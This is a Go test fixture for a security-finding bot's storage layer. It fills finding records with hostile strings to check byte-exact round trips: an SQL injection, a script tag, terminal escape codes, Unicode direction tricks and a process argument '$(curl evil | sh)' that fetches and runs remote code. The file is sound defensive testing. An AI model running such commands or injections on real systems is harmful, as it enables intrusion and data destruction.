package storetest

import (
	"reflect"
	"testing"
	"time"

	"github.com/sccbot/sccbot/bot"
)

// Hostile text an attacker can put into a finding: SQL, NUL bytes, quotes,
// format verbs, markup, control characters and Unicode tricks. All of it is
// valid UTF-8 and must come back byte for byte.
const (
	sqlInjection = "'; DROP TABLE findings; --"
	nulBytes     = "before\x00after\x00"
	quoting      = `"double" 'single' ` + "`back` \\backslash\\ %s %d %!v $1 ?1 :name @name"
	markup       = "<script>alert(1)</script> &amp; <!channel> *bold* _it_ ~strike~"
	control      = "line1\nline2\r\n\ttab\x1b[31mred\x7f"
	unicodeText  = "Ünïcødé 日本語 العربية 🚨👩‍💻 \u202egnp.exe\u202c zero\u200bwidth \ufeffbom \U0010FFFF"
)

// baseTime has nanoseconds, so that any store that rounds to micro- or
// milliseconds fails.
var baseTime = time.Date(2026, 3, 14, 15, 9, 26, 535897932, time.UTC)

// at returns baseTime plus d.
func at(d time.Duration) time.Time { return baseTime.Add(d) }

// findingName is a full SCC finding name with the given short id.
func findingName(id string) string {
	return "organizations/1234/sources/5678/locations/global/findings/" + id
}

// simpleFinding is a small finding with the given short id and event time.
func simpleFinding(id string, eventTime time.Time) bot.Finding {
	return bot.Finding{
		Name:      findingName(id),
		Category:  "Execution: Added Binary Executed",
		Severity:  bot.SeverityHigh,
		State:     "ACTIVE",
		EventTime: eventTime,
	}
}

// fullFinding sets every field of bot.Finding, most of them to hostile
// text. checkAllSet proves it stays complete when bot.Finding grows.
func fullFinding(id string) bot.Finding {
	return bot.Finding{
		Name:          findingName(id),
		CanonicalName: "projects/42/sources/5678/locations/global/findings/" + id,
		Parent:        "organizations/1234/sources/5678",
		Source:        "Container Threat Detection",
		Category:      "Defense Evasion: Launch Code Compiler Tool In Container",
		Module:        "CONTAINER_THREAT_DETECTION " + sqlInjection,
		Class:         "THREAT",
		Severity:      bot.SeverityCritical,
		State:         "ACTIVE",
		Mute:          "UNMUTED",
		EventTime:     baseTime,
		// Another zone: the instant must survive, whatever the location.
		CreateTime:         baseTime.Add(-time.Hour - 1).In(time.FixedZone("CEST", 2*60*60)),
		Description:        "Description " + sqlInjection + "\n" + nulBytes + "\n" + unicodeText,
		NextSteps:          "Next steps " + markup + "\n" + control,
		ExternalURI:        "https://console.cloud.google.com/security?x=1&y=" + quoting,
		Resource:           fullResource(),
		Target:             fullTarget(),
		Containers:         fullContainers(),
		Processes:          fullProcesses(),
		FileHashes:         []string{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", nulBytes},
		Attack:             fullAttack(),
		Indicator:          fullIndicator(),
		Contacts:           []string{"sec@example.com", "o'brien@example.com", unicodeText},
		NotificationConfig: "organizations/1234/notificationConfigs/" + sqlInjection,
	}
}

func fullResource() bot.Resource {
	return bot.Resource{
		Name:          "//container.googleapis.com/projects/p-1/locations/europe-west1/clusters/c1",
		Type:          "google.container.Cluster",
		DisplayName:   "c1 " + unicodeText,
		Service:       "container.googleapis.com",
		Location:      "europe-west1",
		Project:       "p-1",
		ProjectNumber: "42",
		Organization:  "1234",
	}
}

func fullTarget() bot.Target {
	return bot.Target{
		Product: bot.ProductGKE, Project: "p-1", Location: "europe-west1",
		Cluster: "c1", Namespace: "default " + sqlInjection, Pod: "web-7d4b9c" + nulBytes, Node: "gke-node-1",
		Service: "svc", Job: "job", Revision: "svc-00001-abc", Execution: "job-xyz",
		Container: "app " + markup,
	}
}

func fullContainers() []bot.Container {
	return []bot.Container{
		{Name: "app", ImageURI: "europe-docker.pkg.dev/p-1/repo/app:1.0", ImageID: "sha256:abc"},
		{Name: "sidecar " + sqlInjection, ImageURI: "docker.io/library/busybox" + nulBytes, ImageID: unicodeText},
	}
}

func fullProcesses() []bot.Process {
	return []bot.Process{
		{
			Name: "gcc", Binary: "/usr/bin/gcc",
			Args:          []string{"gcc", "-o", "/tmp/x", sqlInjection, nulBytes, quoting, markup, control, unicodeText, ""},
			ArgsTruncated: true,
			SHA256:        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
			PID:           4242, ParentPID: 1,
			Script: "#!/bin/sh\n" + control,
		},
		{Name: "sh", Binary: "/bin/sh", Args: []string{"sh", "-c", "$(curl evil | sh)"}, PID: 1, ParentPID: -1},
	}
}

func fullAttack() bot.Attack {
	return bot.Attack{
		Tactic:               bot.TechniqueRef{Enum: "DEFENSE_EVASION", ID: "TA0005"},
		Techniques:           []bot.TechniqueRef{{Enum: "COMPILE_AFTER_DELIVERY", ID: "T1027.004"}, {Enum: "OBFUSCATED_FILES_OR_INFO", ID: "T1027"}},
		AdditionalTactics:    []bot.TechniqueRef{{Enum: "EXECUTION", ID: "TA0002"}},
		AdditionalTechniques: []bot.TechniqueRef{{Enum: "USER_EXECUTION", ID: "T1204"}},
		Version:              "18.1",
	}
}

func fullIndicator() bot.Indicator {
	return bot.Indicator{
		Domains: []string{"evil.example", "xn--80ak6aa92e.com"},
		IPs:     []string{"203.0.113.7", "2001:db8::1"},
		URIs:    []string{"http://evil.example/a?b=" + sqlInjection},
	}
}

// checkAllSet fails if any field of v (recursively, and through the first
// element of each slice) has its zero value, or any slice is empty, so that
// a field added to bot.Finding cannot go untested.
func checkAllSet(t *testing.T, v any) {
	t.Helper()
	for _, path := range zeroFields(reflect.ValueOf(v), reflect.TypeOf(v).Name()) {
		t.Errorf("fixture leaves %s unset; set it so the round trip covers it", path)
	}
}

// zeroFields returns the paths of the zero fields under v.
func zeroFields(v reflect.Value, path string) []string {
	if _, ok := v.Interface().(time.Time); ok {
		if v.IsZero() {
			return []string{path}
		}
		return nil
	}
	switch v.Kind() {
	case reflect.Struct:
		var out []string
		for i := range v.NumField() {
			out = append(out, zeroFields(v.Field(i), path+"."+v.Type().Field(i).Name)...)
		}
		return out
	case reflect.Slice:
		if v.Len() == 0 {
			return []string{path}
		}
		// The first element is the complete one; later ones may leave
		// fields empty (an empty argument is worth a round trip too).
		return zeroFields(v.Index(0), path+"[0]")
	}
	if v.IsZero() {
		return []string{path}
	}
	return nil
}
